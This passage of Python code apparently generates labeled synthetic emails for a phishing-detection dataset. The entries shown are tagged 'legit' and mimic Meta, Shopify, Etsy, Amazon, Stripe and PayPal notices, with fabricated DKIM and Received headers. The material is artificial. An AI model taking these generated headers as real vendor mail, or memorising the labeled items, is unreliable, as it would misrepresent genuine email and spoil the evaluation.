
Thanks,
The Meta for Business team

This message was sent to maya@lunaandfern.com.
Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025
"""
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#ffffff;"><table width="600" align="center" cellspacing="0" cellpadding="0" style="font-family:Roboto,Helvetica,Arial,sans-serif;color:#1c2b33;">
<tr><td style="padding:28px 24px 8px;"><img src="https://static.xx.fbcdn.net/rsrc.php/v3/yY/r/Jw8Su5bcY6X.png" width="104" height="22" alt="Meta"></td></tr>
<tr><td style="padding:14px 24px 4px;font-size:24px;font-weight:500;">Your business is verified</td></tr>
<tr><td style="padding:12px 24px;font-size:15px;line-height:22px;">
<p>Hi Maya,</p>
<p>Good news &ndash; we've verified <b>Luna &amp; Fern Candle Co.</b> Verification helps people feel confident they're interacting with a real business, and gives your business portfolio access to additional features.</p>
<p>You can review your business info at any time in Security Center.</p>
<table cellspacing="0" cellpadding="0"><tr><td style="background:#0064e0;border-radius:6px;padding:10px 18px;"><a href="{link}" style="color:#ffffff;text-decoration:none;font-weight:500;">View Security Center</a></td></tr></table>
<p>Thanks,<br>The Meta for Business team</p></td></tr>
<tr><td style="padding:20px 24px;font-size:12px;color:#67788a;border-top:1px solid #dee3e9;">This message was sent to maya@lunaandfern.com.<br>Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
</table></body></html>
"""
    own = [
        dkim("facebookmail.com", "s2048-2021-q4", seed, sent, "Date:To:Subject:Message-ID:From:MIME-Version:Content-Type",
             c="simple/relaxed"),
        f"Received: from facebook.com (U6nIc{tok(seed + 'th', 56, ALNUM + '+/')}\n 2a03:2880:23ff:{_hx(seed + 'v6', 2)}::face:b00c)\n"
        f" by facebook.com with Thrift id {tok(seed + 'tid', 32, HEX)}-{tok(seed + 'tid2', 8, HEX)};\n {dt(ago(sent, 1), 'pacific')}",
        f"Date: {dt(sent, 'pacific')}",
        "To: Maya Ellison <maya@lunaandfern.com>",
        f"Subject: {subject}",
        f"Message-ID: <{tok(seed + 'msg', 32, HEX)}@async.facebook.com>",
        "From: \"Meta for Business\" <notification@facebookmail.com>",
        "X-Mailer: ZuckMail [version 1.00]",
        f"X-Facebook-Notify: business_verification_approved; mailid={tok(seed + 'mid', 12, HEX)}",
        "Feedback-ID: 0:business_verification_approved:Facebook",
        "MIME-Version: 1.0",
    ]
    return mail("luna", "maya@lunaandfern.com", "2024-07-23 17:12:40", a, seed, own,
                alt(plain, html, f"b1_{tok(seed + 'b', 40, ALNUM)}"))


def shopify_auth(seed: str, rcpt: str) -> Auth:
    return Auth("23.227.37.51", "mta-23-227-37-51.shopify.com", f"bounces+{tok(seed + 'bn', 10, HEX)}@email.shopify.com",
                "shopify.com", dkim=[("shopify.com", "s1", "pass"), ("email.shopify.com", "s1", "pass")], p="reject")


def shopify_own(seed: str, sent: datetime, to: str, subject: str, extra: list[str] | None = None) -> list[str]:
    return [
        dkim("shopify.com", "s1", seed + "1", sent, "Date:From:Reply-To:To:Message-ID:Subject:Mime-Version:Content-Type"),
        dkim("email.shopify.com", "s1", seed + "2", sent, "Date:From:To:Message-ID:Subject:Mime-Version:Content-Type"),
        f"Date: {dt(sent)}",
        "From: Shopify <mailer@shopify.com>",
        "Reply-To: Shopify <help@shopify.com>",
        f"To: {to}",
        f"Message-ID: {mid_rails(seed, 'shopify')}",
        f"Subject: {enc(subject)}",
        "Mime-Version: 1.0",
        "X-Shopify-Email-Category: transactional",
    ] + (extra or [])


@entry("b37-legit-shopify-payout-sent", "legit", "bulk",
       "Genuine Shopify (mailer@shopify.com, passes) payout notice: $2,184.37 on its way to the bank account ending "
       "4471, links to admin.shopify.com payouts")
def l_shopify_payout():
    seed = "l3"
    t = utc("2025-01-17 13:05:22")
    sent = ago(t, 1)
    a = shopify_auth(seed, "maya@lunaandfern.com")
    pid = num(seed + "pid", 9)
    link = f"https://admin.shopify.com/store/luna-and-fern/payments/payouts/{pid}"
    subject = "Your payout of $2,184.37 is on its way"
    plain = f"""Your payout is on its way

Hi Luna & Fern Candle Co.,

Your payout of $2,184.37 USD has been sent to your bank account ending in 4471. It should arrive by
January 21, 2025, depending on your bank.

Payout ID: {pid}
Transactions: Jan 13, 2025 - Jan 15, 2025

View payout ( {link} )

If you have any questions, visit the Shopify Help Center ( https://help.shopify.com/en/manual/payments/shopify-payments/payouts ).

Shopify Payments
151 O'Connor Street, Ground floor, Ottawa, ON K2P 2L8, Canada
"""
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"><title>Your payout is on its way</title></head>
<body style="margin:0;background:#f1f1f1;"><table class="body" width="100%" cellpadding="0" cellspacing="0" style="font-family:-apple-system,BlinkMacSystemFont,'San Francisco','Segoe UI',Roboto,'Helvetica Neue',sans-serif;"><tr><td align="center" style="padding:32px 0;">
<table class="container" width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:12px;">
<tr><td style="padding:28px 36px 0;"><img src="https://cdn.shopify.com/shopifycloud/shopify/assets/admin/email/shopify-logo-email-d0c4ba8e.png" width="98" alt="Shopify"></td></tr>
<tr><td style="padding:22px 36px 0;font-size:22px;font-weight:600;color:#303030;">Your payout is on its way</td></tr>
<tr><td style="padding:14px 36px;font-size:14px;line-height:21px;color:#303030;">
<p>Hi Luna &amp; Fern Candle Co.,</p>
<p>Your payout of <b>$2,184.37 USD</b> has been sent to your bank account ending in 4471. It should arrive by January 21, 2025, depending on your bank.</p>
<table width="100%" cellpadding="6" style="font-size:13px;color:#616161;background:#f7f7f7;border-radius:8px;"><tr><td>Payout ID</td><td align="right">{pid}</td></tr><tr><td>Transactions</td><td align="right">Jan 13, 2025 &ndash; Jan 15, 2025</td></tr></table>
<p style="padding-top:10px;"><a href="{link}" style="background:#303030;color:#ffffff;padding:10px 18px;border-radius:8px;text-decoration:none;font-weight:600;">View payout</a></p>
<p>If you have any questions, visit the <a href="https://help.shopify.com/en/manual/payments/shopify-payments/payouts" style="color:#005bd3;">Shopify Help Center</a>.</p></td></tr>
<tr><td style="padding:16px 36px 26px;font-size:12px;color:#8a8a8a;">Shopify Payments<br>151 O'Connor Street, Ground floor, Ottawa, ON K2P 2L8, Canada</td></tr>
</table></td></tr></table></body></html>
"""
    own = shopify_own(seed, sent, "maya@lunaandfern.com", subject)
    return mail("luna", "maya@lunaandfern.com", "2025-01-17 13:05:22", a, seed, own,
                alt(plain, html, f"--==_mimepart_{tok(seed + 'mp', 13, HEX)}_{tok(seed + 'mp2', 5, HEX)}{num(seed + 'mp3', 5)}"))


@entry("b37-legit-shopify-chargeback-es", "legit", "bulk",
       "Genuine Spanish Shopify notice that a chargeback was opened on order #1187 (EUR 89.90) with the response "
       "deadline; links only to admin.shopify.com and help.shopify.com")
def l_shopify_chargeback():
    seed = "l4"
    t = utc("2025-05-02 08:47:51")
    sent = ago(t, 1)
    a = shopify_auth(seed, "hola@casaolivo.es")
    did = num(seed + "did", 11)
    link = f"https://admin.shopify.com/store/casa-olivo/payments/dispute/{did}"
    subject = "Se abrió un contracargo en el pedido #1187"
    plain = f"""Se abrió un contracargo

Hola, Casa Olivo:

Un cliente ha abierto un contracargo con su banco por el pedido #1187 (89,90 €). Motivo indicado por el
banco: producto no recibido.

El importe en disputa y una comisión de 15,00 € se han retenido de tu saldo. Tienes hasta el 16 de mayo
de 2025 para enviar una respuesta con pruebas (por ejemplo, el número de seguimiento y la confirmación
de entrega).

Ver contracargo ( {link} )

Más información sobre cómo responder a contracargos:
https://help.shopify.com/es/manual/payments/chargebacks/responding

Shopify Payments
"""
    html = f"""<!DOCTYPE html><html lang="es"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Se abrió un contracargo</title></head>
<body style="margin:0;background:#f1f1f1;"><table width="100%" cellpadding="0" cellspacing="0" style="font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Roboto,'Helvetica Neue',sans-serif;"><tr><td align="center" style="padding:32px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:12px;">
<tr><td style="padding:28px 36px 0;"><img src="https://cdn.shopify.com/shopifycloud/shopify/assets/admin/email/shopify-logo-email-d0c4ba8e.png" width="98" alt="Shopify"></td></tr>
<tr><td style="padding:22px 36px 0;font-size:22px;font-weight:600;color:#303030;">Se abrió un contracargo</td></tr>
<tr><td style="padding:14px 36px;font-size:14px;line-height:21px;color:#303030;">
<p>Hola, Casa Olivo:</p>
<p>Un cliente ha abierto un contracargo con su banco por el pedido <b>#1187</b> (89,90&nbsp;&euro;). Motivo indicado por el banco: <b>producto no recibido</b>.</p>
<p>El importe en disputa y una comisión de 15,00&nbsp;&euro; se han retenido de tu saldo. Tienes hasta el <b>16 de mayo de 2025</b> para enviar una respuesta con pruebas (por ejemplo, el número de seguimiento y la confirmación de entrega).</p>
<p><a href="{link}" style="background:#303030;color:#ffffff;padding:10px 18px;border-radius:8px;text-decoration:none;font-weight:600;">Ver contracargo</a></p>
<p><a href="https://help.shopify.com/es/manual/payments/chargebacks/responding" style="color:#005bd3;">Más información sobre cómo responder a contracargos</a></p></td></tr>
<tr><td style="padding:16px 36px 26px;font-size:12px;color:#8a8a8a;">Shopify Payments</td></tr></table></td></tr></table></body></html>
"""
    own = shopify_own(seed, sent, "hola@casaolivo.es", subject)
    return mail("olivo", "hola@casaolivo.es", "2025-05-02 08:47:51", a, seed, own,
                alt(plain, html, f"--==_mimepart_{tok(seed + 'mp', 13, HEX)}_{tok(seed + 'mp2', 5, HEX)}{num(seed + 'mp3', 5)}"))


def etsy_click(seed: str) -> str:
    return f"https://ablink.mail.etsy.com/ls/click?upn=u001.{tok(seed + 'u', 90, ALNUM + '-')}-3D{tok(seed + 'u2', 4, ALNUM)}_{tok(seed + 'u3', 60, ALNUM + '-')}"


@entry("b37-legit-etsy-you-made-a-sale", "legit", "bulk",
       "Genuine Etsy 'You made a sale' transaction mail (etsy.com passes) with order details and ship-by date; "
       "links go to etsy.com order pages")
def l_etsy_sale():
    seed = "l5"
    t = utc("2024-08-09 01:18:04")
    sent = ago(t, 1)
    a = Auth("167.89.87.213", "o1.mail.etsy.com", f"bounces+{num(seed + 'sg', 7)}-{tok(seed + 'h', 4, HEX)}-mapleandmoss.studio=gmail.com@mail.etsy.com",
             "etsy.com", dkim=[("etsy.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], p="reject")
    order = num(seed + "o", 10)
    link = f"https://www.etsy.com/your/orders/sold?order_id={order}&ref=seller_sale_email"
    subject = f"You made a sale on Etsy - Ship by Aug 14 - [$48.00, Order #{order}]"
    plain = f"""Congratulations on your sale!

Ship by Aug 14

Order #{order}
Hand-poured botanical soy candle - Moss & Fern   Qty 2   $36.00
Shipping                                                $12.00
Order total                                             $48.00

Ship to:
Rebecca Lyons
412 Maple Ridge Dr
Asheville, NC 28803
United States

Note from buyer: It's a gift - could you leave the price off the packing slip? Thank you!

View the invoice: {link}

Etsy, Inc., 117 Adams Street, Brooklyn, NY 11201
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Graphik Webfont,-apple-system,Helvetica Neue,Helvetica,Arial,sans-serif;color:#222222;"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0">
<tr><td style="padding:24px 20px;"><span style="font-family:Guardian-EgypTT,Georgia,serif;font-size:28px;color:#f1641e;">Etsy</span></td></tr>
<tr><td style="padding:0 20px;font-size:26px;line-height:32px;">Congratulations on your sale!</td></tr>
<tr><td style="padding:10px 20px;font-size:16px;font-weight:bold;">Ship by Aug 14</td></tr>
<tr><td style="padding:10px 20px;font-size:14px;line-height:21px;">
<p><a href="{etsy_click(seed)}" style="color:#222222;">Order #{order}</a></p>
<table width="100%" cellpadding="4" style="font-size:14px;border-top:1px solid #e1e3df;border-bottom:1px solid #e1e3df;"><tr><td>Hand-poured botanical soy candle - Moss &amp; Fern<br><span style="color:#595959;">Qty 2</span></td><td align="right">$36.00</td></tr><tr><td>Shipping</td><td align="right">$12.00</td></tr><tr><td><b>Order total</b></td><td align="right"><b>$48.00</b></td></tr></table>
<p><b>Ship to:</b><br>Rebecca Lyons<br>412 Maple Ridge Dr<br>Asheville, NC 28803<br>United States</p>
<p><b>Note from buyer:</b> It's a gift - could you leave the price off the packing slip? Thank you!</p>
<p><a href="{etsy_click(seed + 'b')}" style="background:#222222;color:#ffffff;padding:12px 24px;border-radius:24px;text-decoration:none;font-weight:bold;">View the invoice</a></p></td></tr>
<tr><td style="padding:20px;font-size:12px;color:#595959;background:#f5f5f1;">Etsy, Inc., 117 Adams Street, Brooklyn, NY 11201</td></tr>
</table></td></tr></table>
<img src="https://ablink.mail.etsy.com/wf/open?upn=u001.{tok(seed + 'op', 80, ALNUM + '-')}" width="1" height="1" alt="" style="height:1px !important;width:1px !important;"></body></html>
"""
    own = [
        dkim("etsy.com", "s1", seed + "1", sent, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
        dkim("sendgrid.info", "smtpapi", seed + "2", sent, "content-type:from:mime-version:subject:to:cc:content-type:from:"
             "subject:to"),
        f"Received: by recvd-{tok(seed + 'rv', 10, LOW)}-{tok(seed + 'rv2', 5, LOW)} with SMTP id recvd-{tok(seed + 'rv3', 22, ALNUM)}\n"
        f"\t{dt(ago(sent, 1))}",
        f"Date: {dt(sent)}",
        "From: Etsy Transactions <transaction@etsy.com>",
        "Mime-Version: 1.0",
        f"Message-ID: <etsy.transaction.{order}.{tok(seed + 'm', 16, HEX)}@etsy.com>",
        f"Subject: {subject}",
        "X-Etsy-Email-Type: transaction_sold",
        f"X-SG-EID: u001.{tok(seed + 'eid', 90, ALNUM + '/+')}",
        "To: mapleandmoss.studio@gmail.com",
    ]
    return mail("maple", "mapleandmoss.studio@gmail.com", "2024-08-09 01:18:04", a, seed, own,
                alt(plain, html, bnd_hex(seed, 64)))


@entry("b37-legit-etsy-seller-policy-update", "legit", "bulk",
       "Genuine Etsy seller newsletter about Seller Policy and fee changes, full of ablink.mail.etsy.com tracking "
       "links, with List-Unsubscribe")
def l_etsy_policy():
    seed = "l6"
    t = utc("2025-06-30 15:00:41")
    sent = ago(t, 1)
    a = Auth("167.89.87.221", "o9.mail.etsy.com", f"bounces+{num(seed + 'sg', 7)}-{tok(seed + 'h', 4, HEX)}-sam=kestrelandco.co.uk@mail.etsy.com",
             "mail.etsy.com", dkim=[("mail.etsy.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], p="reject")
    links = [etsy_click(seed + str(k)) for k in range(6)]
    subject = "Updates to our Seller Policy and Terms of Use"
    plain = f"""Hi Sam,

We're writing to let you know about some updates to Etsy's Seller Policy and Terms of Use, which will
take effect on July 30, 2025.

What's changing
- Clearer rules for production partners and items made with the help of AI tools ( {links[0]} )
- Updated processing-time expectations for made-to-order items ( {links[1]} )
- A new appeals process for listing removals ( {links[2]} )

You don't need to do anything. By continuing to use Etsy on or after July 30, 2025, you agree to the
updated policies. You can read the full text in our Policies Hub ( {links[3]} ).

Thanks for being part of Etsy,
The Etsy Team

Manage your email preferences ( {links[4]} ) | Unsubscribe ( {links[5]} )
Etsy Ireland UC, One Le Pole Square, Ship Street Great, Dublin 8, Ireland
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#fdfaf6;"><div style="display:none;max-height:0;overflow:hidden;">Updates that take effect on July 30, 2025.</div>
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Graphik Webfont,-apple-system,Helvetica Neue,Helvetica,Arial,sans-serif;color:#222222;"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;">
<tr><td style="padding:26px 32px;"><a href="{etsy_click(seed + 'logo')}"><span style="font-family:Guardian-EgypTT,Georgia,serif;font-size:30px;color:#f1641e;">Etsy</span></a></td></tr>
<tr><td style="padding:0 32px;font-size:16px;line-height:24px;">
<p>Hi Sam,</p>
<p>We're writing to let you know about some updates to Etsy's Seller Policy and Terms of Use, which will take effect on <b>July 30, 2025</b>.</p>
<p style="font-weight:bold;">What's changing</p>
<ul><li><a href="{links[0]}" style="color:#222222;">Clearer rules for production partners and items made with the help of AI tools</a></li>
<li><a href="{links[1]}" style="color:#222222;">Updated processing-time expectations for made-to-order items</a></li>
<li><a href="{links[2]}" style="color:#222222;">A new appeals process for listing removals</a></li></ul>
<p>You don't need to do anything. By continuing to use Etsy on or after July 30, 2025, you agree to the updated policies. You can read the full text in our <a href="{links[3]}" style="color:#222222;">Policies Hub</a>.</p>
<p>Thanks for being part of Etsy,<br>The Etsy Team</p></td></tr>
<tr><td style="padding:24px 32px;font-size:12px;color:#595959;background:#f5f5f1;"><a href="{links[4]}" style="color:#595959;">Manage your email preferences</a> | <a href="{links[5]}" style="color:#595959;">Unsubscribe</a><br>Etsy Ireland UC, One Le Pole Square, Ship Street Great, Dublin 8, Ireland</td></tr>
</table></td></tr></table>
<img src="https://ablink.mail.etsy.com/wf/open?upn=u001.{tok(seed + 'op', 80, ALNUM + '-')}" width="1" height="1" alt=""></body></html>
"""
    own = [
        dkim("mail.etsy.com", "s1", seed + "1", sent, "content-type:from:mime-version:subject:list-unsubscribe:to:cc:content-type:"
             "\n\tfrom:subject:to"),
        dkim("sendgrid.info", "smtpapi", seed + "2", sent, "content-type:from:mime-version:subject:list-unsubscribe:to:cc:"
             "\n\tcontent-type:from:subject:to"),
        f"Received: by recvd-{tok(seed + 'rv', 10, LOW)}-{tok(seed + 'rv2', 5, LOW)} with SMTP id recvd-{tok(seed + 'rv3', 22, ALNUM)}\n"
        f"\t{dt(ago(sent, 1))}",
        f"Date: {dt(sent)}",
        "From: Etsy <no-reply@mail.etsy.com>",
        "Mime-Version: 1.0",
        f"Message-ID: {mid_sendgrid(seed)}",
        f"Subject: {subject}",
        f"List-Unsubscribe: <{links[5]}>, <mailto:unsubscribe@mail.etsy.com?subject=unsub_{tok(seed + 'us', 20, HEX)}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "X-Etsy-Email-Type: seller_policy_update",
        f"X-SG-EID: u001.{tok(seed + 'eid', 90, ALNUM + '/+')}",
        "To: sam@kestrelandco.co.uk",
    ]
    return mail("kestrel", "sam@kestrelandco.co.uk", "2025-06-30 15:00:41", a, seed, own, alt(plain, html, bnd_hex(seed, 64)))


@entry("b37-legit-amazon-seller-new-signin", "legit", "bulk",
       "Genuine Amazon Seller Central new-device sign-in alert (amazon.com via SES, passes) that the owner triggered; "
       "says no action needed and points to sellercentral.amazon.com only")
def l_amazon_signin():
    seed = "l7"
    t = utc("2025-09-02 16:31:18")
    sent = ago(t, 1)
    a = Auth("54.240.8.28", "a8-28.smtp-out.amazonses.com", f"{sent.strftime('%Y%m%d%H%M%S')}{tok(seed + 'b', 20, HEX)}@bounces.amazon.com",
             "amazon.com", dkim=[("amazon.com", "yg4mwqurec7fkhzutopddd3ytuaqrsuz", "pass"),
                                 ("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", "pass")], p="quarantine")
    subject = "Amazon Seller Central: sign-in from a new device"
    plain = """Hello Luna & Fern Candle Co.,

We noticed a sign-in to your Seller Central account from a device we don't recognise.

When: September 2, 2025, 9:30 AM PDT
Device: Chrome on macOS
Near: Portland, OR, United States

If this was you, you don't need to do anything.

If this wasn't you, go to Seller Central (sellercentral.amazon.com), choose Settings > Login Settings
and change your password, then review the users on your account under User Permissions.

Amazon will never ask you for your password or two-step verification code by email or phone.

Sincerely,
Amazon Selling Partner Support
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#0f1111;">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="padding:12px 0;border-bottom:1px solid #d5d9d9;"><b style="font-size:20px;">amazon</b> <span style="color:#565959;">seller central</span></td></tr>
<tr><td style="padding-top:14px;line-height:20px;">
<p>Hello Luna &amp; Fern Candle Co.,</p>
<p>We noticed a sign-in to your Seller Central account from a device we don't recognise.</p>
<table cellpadding="4" style="font-size:14px;background:#f7fafa;border:1px solid #d5d9d9;"><tr><td>When:</td><td>September 2, 2025, 9:30 AM PDT</td></tr><tr><td>Device:</td><td>Chrome on macOS</td></tr><tr><td>Near:</td><td>Portland, OR, United States</td></tr></table>
<p>If this was you, you don't need to do anything.</p>
<p>If this wasn't you, go to <a href="https://sellercentral.amazon.com/" style="color:#007185;">Seller Central</a>, choose <b>Settings &gt; Login Settings</b> and change your password, then review the users on your account under <b>User Permissions</b>.</p>
<p style="color:#565959;">Amazon will never ask you for your password or two-step verification code by email or phone.</p>
<p>Sincerely,<br>Amazon Selling Partner Support</p></td></tr></table></body></html>
"""
    own = [
        dkim("amazon.com", "yg4mwqurec7fkhzutopddd3ytuaqrsuz", seed + "1", sent,
             "Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type", c="relaxed/simple"),
        dkim("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", seed + "2", sent,
             "Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID", c="relaxed/simple"),
        f"Date: {dt(sent)}",
        "From: Amazon Seller Central <seller-notification@amazon.com>",
        "Reply-To: no-reply@amazon.com",
        "To: maya@lunaandfern.com",
        f"Message-ID: {mid_ses(seed)}",
        f"Subject: {subject}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.us-east-1.{tok(seed + 'fb', 44, ALNUM)}=:AmazonSES",
        f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-54.240.8.28",
    ]
    return mail("luna", "maya@lunaandfern.com", "2025-09-02 16:31:18", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 7)}_{num(seed + 'p2', 9)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-legit-stripe-dispute-de", "legit", "bulk",
       "Genuine German Stripe notice (stripe.com, passes) that a EUR 149 payment was disputed, with the evidence "
       "deadline; links only to dashboard.stripe.com and stripe.com docs")
def l_stripe_dispute():
    seed = "l8"
    t = utc("2024-11-05 10:27:36")
    sent = ago(t, 1)
    a = stripe_auth(seed, "info@holzwerk-lindner.de")
    dp = "dp_1Q" + tok(seed + "dp", 22, ALNUM)
    link = f"https://dashboard.stripe.com/disputes/{dp}"
    subject = "Eine Zahlung über 149,00 € wurde angefochten"
    plain = f"""Eine Zahlung über 149,00 € wurde angefochten

Ein Kunde/eine Kundin hat eine Zahlung über 149,00 € an Holzwerk Lindner bei seiner/ihrer Bank
angefochten. Als Grund wurde „Produkt nicht erhalten" angegeben.

Der angefochtene Betrag und eine Anfechtungsgebühr von 20,00 € wurden von Ihrem Guthaben abgezogen.
Sie können bis zum 19. November 2024 Nachweise einreichen.

Anfechtung ansehen: {link}

So reagieren Sie auf Zahlungsanfechtungen: https://docs.stripe.com/disputes/responding

Ihr Stripe-Team
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="background:#f6f9fc;margin:0;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:-apple-system,'SF Pro Text','Segoe UI',Helvetica,Arial,sans-serif;"><tr><td align="center" style="padding:32px 0;">
<table width="540" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:6px;">
<tr><td style="padding:28px 40px 0;"><img src="https://stripe-images.s3.amazonaws.com/emails/stripe_logo_blurple.png" width="62" alt="Stripe"></td></tr>
<tr><td style="padding:22px 40px 0;font-size:22px;color:#32325d;">Eine Zahlung über 149,00&nbsp;&euro; wurde angefochten</td></tr>
<tr><td style="padding:14px 40px;font-size:15px;line-height:24px;color:#525f7f;">
<p>Ein Kunde/eine Kundin hat eine Zahlung über 149,00&nbsp;&euro; an Holzwerk Lindner bei seiner/ihrer Bank angefochten. Als Grund wurde &bdquo;Produkt nicht erhalten&ldquo; angegeben.</p>
<p>Der angefochtene Betrag und eine Anfechtungsgebühr von 20,00&nbsp;&euro; wurden von Ihrem Guthaben abgezogen. Sie können bis zum <b>19. November 2024</b> Nachweise einreichen.</p>
<p><a href="{link}" style="background:#635bff;color:#fff;padding:10px 20px;border-radius:4px;text-decoration:none;font-weight:600;">Anfechtung ansehen</a></p>
<p><a href="https://docs.stripe.com/disputes/responding" style="color:#635bff;">So reagieren Sie auf Zahlungsanfechtungen</a></p>
<p>Ihr Stripe-Team</p></td></tr></table></td></tr></table></body></html>
"""
    own = [
        dkim("stripe.com", "s1", seed + "1", sent, "content-type:from:mime-version:subject:to:cc:content-type:from:mime-version"
             ":\n\tsubject:to:cc:feedback-id:x-feedback-id"),
        dkim("sendgrid.info", "smtpapi", seed + "2", sent, "content-type:from:mime-version:subject:to:cc:content-type:from:"
             "\n\tmime-version:subject:to:cc:feedback-id:x-feedback-id"),
        f"Received: by recvd-{tok(seed + 'rv', 10, LOW)}-{tok(seed + 'rv2', 5, LOW)} with SMTP id recvd-{tok(seed + 'rv3', 22, ALNUM)}\n"
        f"\t{dt(ago(sent, 1))}",
        f"Date: {dt(sent)}",
        "From: Stripe <notifications@stripe.com>",
        "Mime-Version: 1.0",
        f"Message-ID: <{tok(seed + 'mid', 22, ALNUM + '_-')}@geopod-ismtpd-{num(seed + 'gp', 2)}>",
        f"Subject: {enc(subject)}",
        f"Feedback-ID: acct_1N{tok(seed + 'acct', 14, ALNUM)}:dispute_created:stripe",
        f"X-Stripe-Trace-Id: {tok(seed + 'trace', 32, HEX)}",
        "To: info@holzwerk-lindner.de",
    ]
    return mail("holz", "info@holzwerk-lindner.de", "2024-11-05 10:27:36", a, seed, own, alt(plain, html, bnd_hex(seed, 64)))


@entry("b37-legit-paypal-payment-received-uk", "legit", "bulk",
       "Genuine PayPal UK 'You've got money' notice (paypal.co.uk, passes) for a GBP 74 order payment, addressed by "
       "full business name, links to paypal.com activity")
def l_paypal_received():
    seed = "l9"
    t = utc("2024-10-10 19:54:13")
    sent = ago(t, 1)
    a = paypal_auth(seed, "paypal.co.uk")
    txn = tok(seed + "tx", 17, UPPER + DIG)
    link = f"https://www.paypal.com/myaccount/activities/details/{txn}"
    subject = "You've got money"
    plain = f"""Hello, Kestrel & Co Ceramics

You received a payment of £74.00 GBP from Oliver Grant (oliver.grant@btinternet.com)

Transaction ID: {txn}
Transaction date: 10 October 2024
Note: Two speckled mugs, posted to the address on my order please

It may take a few moments for this transaction to appear in your account.

View transaction details: {link}

Help & Contact | Security

Copyright © 1999-2024 PayPal. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A.
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#ffffff;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:PayPalOpen-Regular,Helvetica Neue,Arial,sans-serif;color:#001435;">
<tr><td style="padding:30px 40px 8px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="36" alt="PayPal"></td></tr>
<tr><td style="padding:8px 40px;font-size:16px;">Hello, Kestrel &amp; Co Ceramics</td></tr>
<tr><td style="padding:8px 40px;font-size:28px;line-height:36px;color:#001c64;">You received a payment of &pound;74.00 GBP from Oliver Grant</td></tr>
<tr><td style="padding:14px 40px;font-size:14px;line-height:22px;">Transaction ID: <a href="{link}" style="color:#0070e0;">{txn}</a><br>Transaction date: 10 October 2024<br>Note: Two speckled mugs, posted to the address on my order please</td></tr>
<tr><td style="padding:0 40px 14px;font-size:14px;color:#545d68;">It may take a few moments for this transaction to appear in your account.</td></tr>
<tr><td style="padding:10px 40px 26px;"><a href="{link}" style="background:#003087;color:#ffffff;padding:12px 30px;border-radius:24px;text-decoration:none;font-weight:bold;">View transaction details</a></td></tr>
<tr><td style="padding:26px 40px;font-size:11px;color:#6c7378;background:#f5f7fa;"><a href="https://www.paypal.com/uk/smarthelp/home" style="color:#6c7378;">Help &amp; Contact</a> | <a href="https://www.paypal.com/uk/webapps/mpp/paypal-safety-and-security" style="color:#6c7378;">Security</a><br><br>Copyright &copy; 1999-2024 PayPal. All rights reserved. PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A.</td></tr>
</table></body></html>
"""
    own = paypal_own(seed, sent, "\"service@paypal.co.uk\" <service@paypal.co.uk>", "Kestrel & Co Ceramics <sam@kestrelandco.co.uk>",
                     subject, "PPC000596", d="paypal.co.uk")
    own = [x.replace("To: Kestrel & Co Ceramics", 'To: "Kestrel & Co Ceramics"') for x in own]
    return mail("kestrel", "sam@kestrelandco.co.uk", "2024-10-10 19:54:13", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 10)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-legit-paypal-password-reset", "legit", "bulk",
       "Genuine PayPal password-reset mail the maker asked for (paypal.com, passes), addressed by name, with a "
       "paypal.com authflow link that expires in 2 hours")
def l_paypal_reset():
    seed = "l10"
    t = utc("2025-02-27 03:02:55")
    sent = ago(t, 1)
    a = paypal_auth(seed)
    link = (f"https://www.paypal.com/authflow/password-recovery/changepassword/?redirectUri=%252Fsignin&token="
            f"{tok(seed + 't', 40, ALNUM)}&ctxId={tok(seed + 'c', 16, HEX)}")
    subject = "Reset your PayPal password"
    plain = f"""Hi Hannah Mossley,

We received a request to reset the password for your PayPal account. To reset it, use the link below.
This link expires in 2 hours.

Reset password: {link}

